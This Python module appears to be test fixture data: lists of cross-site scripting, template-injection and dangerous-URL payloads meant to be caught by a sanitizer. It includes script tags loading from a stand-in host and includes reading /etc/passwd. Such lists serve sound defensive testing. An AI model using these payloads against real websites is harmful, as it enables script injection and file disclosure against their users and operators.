# ruff: noqa: E501
"""A hundred things that must never run, wherever they stand."""

_TAGS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//x.example></script>", "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<IMG SRC=\"javascript:alert(1)\">", "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a onmouseover=alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x", "<button formaction=javascript:alert(1)>x", "<math href=javascript:alert(1)>x",
    "<base href=//x.example>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//x.example>",
    "<style>@import '//x.example'</style>", "<style>*{background:url(//x.example)}</style>", "<div style=background:url(//x.example)>",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>", "<xss onpointerenter=alert(1)>",
    "<table background=javascript:alert(1)>", "<isindex type=image src=1 onerror=alert(1)>", "<portal src=javascript:alert(1)>",
]  # fmt: skip
_BREAKERS = [
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1) x=`", "\" autofocus onfocus=alert(1) \"", "{{7*7}}", "{% debug %}", "{% include '/etc/passwd' %}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\u2028<script>alert(1)</script>", "\u202e<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "＜script＞alert(1)＜/script＞", "<scr\u00adipt>alert(1)",
]  # fmt: skip
_LINKS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "file:///etc/passwd", "//x.example/%0a<script>",
    "http://x.example/\"onmouseover=\"alert(1)", "http://x.example/'onmouseover='alert(1)", "https://x.example/<script>alert(1)</script>",
    "https://x.example/?q=\"><img src=x onerror=alert(1)>", "https://x.example/#'-alert(1)-'", "http://javascript:alert(1)@x.example/",
    "https://x.example\\\"onload=alert(1)", "https://x.example/\u202egpj.exe", "feed:javascript:alert(1)", "blob:https://x.example/1",
    "https://x.example/`onclick=alert(1)`", "https://x.example/?a=1&b=<svg/onload=alert(1)>", "jar:https://x.example!/", "view-source:javascript:1",
    "https:javascript:alert(1)", "https://x.example/' style='x:expression(alert(1))", "mailto:a@b.example?body=<script>",
]  # fmt: skip
PAYLOADS = [*_TAGS, *_BREAKERS, *_LINKS]
